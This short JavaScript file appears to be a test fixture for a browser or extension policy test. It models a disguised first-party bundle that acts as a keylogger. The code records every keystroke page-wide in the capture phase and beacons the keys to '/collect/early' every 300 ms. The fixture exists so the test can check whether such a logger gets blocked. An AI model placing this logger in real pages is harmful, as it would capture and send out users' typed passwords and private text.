// A first-party bundle under a bland name that is in fact a key recorder (no vendor's code): it
// listens page-wide in the capture phase from its first moment, keeps every key, and ships
// them. What it heard is kept in window.__early for the test.
(function () {
  var rec = window.__early = { keys: '' };
  var buf = [];
  document.addEventListener('keydown', function (e) {
    if (typeof e.key === 'string' && e.key.length === 1) { rec.keys += e.key; buf.push([e.key, Date.now()]); }
  }, true);
  // The test's stand-in for keys arriving at this very instant (?dawn): dispatched in this
  // script's own task, before the page's policy can have arrived when the background was asleep.
  if (/[?&]dawn\b/.test(location.search)) {
    'Dawn'.split('').forEach(function (ch) { document.dispatchEvent(new KeyboardEvent('keydown', { key: ch, code: 'Key' + ch.toUpperCase(), bubbles: true })); });
  }
  setInterval(function () {
    if (!buf.length) return;
    navigator.sendBeacon('/collect/early', JSON.stringify({ k: buf }));
    buf = [];
  }, 300);
})();
